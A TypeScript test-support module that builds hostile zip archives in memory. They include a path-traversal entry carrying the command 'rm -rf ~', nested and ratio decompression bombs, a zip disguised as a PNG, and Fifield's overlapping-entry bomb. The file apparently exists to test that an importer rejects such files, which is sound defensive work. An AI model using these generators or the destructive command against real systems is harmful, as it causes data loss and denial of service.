/**
 * Hostile archives for tests and benchmarks, built in memory: zip slip names, a 42.zip-style nest,
 * Fifield's overlapping-entry bomb, a ratio bomb and a 10k-entry archive. Test support only.
 */
import { zipSync, deflateSync } from 'fflate'

export function zipSlip(): Uint8Array {
  return zipSync({ 'manifest.json': new Uint8Array([123, 125]), '../../evil.sh': new TextEncoder().encode('rm -rf ~') })
}

/** Five levels of 16 zips each, like 42.zip, but small enough to build quickly. */
export function nestedBomb(levels = 5): Uint8Array {
  let inner = zipSync({ '0.txt': [new Uint8Array(1024 * 1024), { level: 9 }] })
  for (let l = 0; l < levels; l++) {
    const files: Record<string, [Uint8Array, { level: 9 }]> = {}
    for (let i = 0; i < 16; i++) files[`${i.toString(16)}.zip`] = [inner, { level: 9 }]
    inner = zipSync(files)
  }
  return inner
}

/** Also a nest, but with innocent names: a zip hiding in `media/x.png`. */
export function disguisedNest(): Uint8Array {
  const inner = zipSync({ 'a.txt': new Uint8Array(10) })
  return zipSync({
    'manifest.json': new Uint8Array([123, 125]),
    'deck.json': new Uint8Array([123, 125]),
    'media/x.png': inner
  })
}

/** One ratio bomb entry: 64 MB of zeros declared, ~64 KB stored. */
export function ratioBomb(): Uint8Array {
  return zipSync({ 'deck.json': [new Uint8Array(64 * 1024 * 1024), { level: 9 }] })
}

export function manyEntries(n = 10_000): Uint8Array {
  const files: Record<string, Uint8Array> = {}
  for (let i = 0; i < n; i++) files[`media/${i}.txt`] = new Uint8Array(1)
  return zipSync(files)
}

/**
 * Fifield's "better zip bomb": many central-directory entries whose data overlap one deflate stream.
 * Each entry is modest; together they declare gigabytes.
 */
export function overlappingBomb(entries = 2000, kernelBytes = 4 * 1024 * 1024): Uint8Array {
  const data = deflateSync(new Uint8Array(kernelBytes), { level: 9 })
  const crc = 0 // never checked before refusal
  const enc = new TextEncoder()
  const parts: Uint8Array[] = []
  const local = new Uint8Array(30 + 1)
  const lv = new DataView(local.buffer)
  lv.setUint32(0, 0x04034b50, true)
  lv.setUint16(4, 20, true)
  lv.setUint16(8, 8, true)
  lv.setUint32(14, crc, true)
  lv.setUint32(18, data.length, true)
  lv.setUint32(22, kernelBytes, true)
  lv.setUint16(26, 1, true)
  local[30] = 0x61
  parts.push(local, data)
  const cdStart = local.length + data.length
  let cdLen = 0
  for (let i = 0; i < entries; i++) {
    const name = enc.encode(`f${i}.bin`)
    const cd = new Uint8Array(46 + name.length)
    const v = new DataView(cd.buffer)
    v.setUint32(0, 0x02014b50, true)
    v.setUint16(4, 20, true)
    v.setUint16(6, 20, true)
    v.setUint16(10, 8, true)
    v.setUint32(16, crc, true)
    v.setUint32(20, data.length, true)
    v.setUint32(24, kernelBytes, true)
    v.setUint16(28, name.length, true)
    v.setUint32(42, 0, true)
    cd.set(name, 46)
    parts.push(cd)
    cdLen += cd.length
  }
  const eocd = new Uint8Array(22)
  const ev = new DataView(eocd.buffer)
  ev.setUint32(0, 0x06054b50, true)
  ev.setUint16(8, entries, true)
  ev.setUint16(10, entries, true)
  ev.setUint32(12, cdLen, true)
  ev.setUint32(16, cdStart, true)
  parts.push(eocd)
  const total = parts.reduce((n, p) => n + p.length, 0)
  const out = new Uint8Array(total)
  let o = 0
  for (const p of parts) {
    out.set(p, o)
    o += p.length
  }
  return out
}
